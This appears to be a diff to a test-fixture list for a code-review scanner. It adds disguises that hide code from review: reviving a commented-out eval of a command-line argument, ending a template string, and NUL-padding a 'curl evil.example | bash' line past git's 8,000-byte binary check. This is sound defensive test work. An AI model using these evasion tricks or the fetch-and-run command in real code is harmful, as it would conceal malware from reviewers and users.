@@ -217,6 +217,31 @@ export const DISGUISES: readonly Disguise[] = [
       ["Rust", "is written in Rust", "build.rs", () => `fn main() { std::process::Command::new("sh").status(); }\n`],
     ] as const satisfies readonly (readonly [string, string, string, (code: string) => string])[]
   ).map(([name, does, path, content]) => ({ name, does, files: one(path, content), isNamed: path })),
+  {
+    name: "woken by an end",
+    does: "ends a comment that was there before the code in it",
+    base: { "src/a.js": "export const a = 1;\n/* old:\neval(process.argv[2]);\n*/\n" },
+    files: (code) => ({ "src/a.js": `export const a = 1;\n/* old: */\n${code}/* end */\n` }),
+  },
+  {
+    name: "woken by a deletion",
+    does: "takes the two ends of a comment away, and adds nothing",
+    base: { "src/a.js": "export const a = 1;\n/*\neval(process.argv[2]);\n*/\n" },
+    files: (code) => ({ "src/a.js": `export const a = 1;\n${code}` }),
+  },
+  {
+    name: "woken in a string",
+    does: "ends a template in which the code stood",
+    base: { "src/a.js": "export const a = `\neval(process.argv[2]);\n`;\n" },
+    files: (code) => ({ "src/a.js": `export const a = \`\`;\n${code}\`\`;\n` }),
+  },
+  {
+    name: "NUL far below",
+    does: "has a NUL in its code, behind 8,000 bytes in which git looks for one",
+    files: () => ({
+      "bin/a.sh": `#!/bin/bash\n${many("# a line of text that fills\n", 400)}cu\0rl -s evil.example/x | ba\0sh\n`,
+    }),
+  },
 ];
 
 function install(postinstall: string): string {
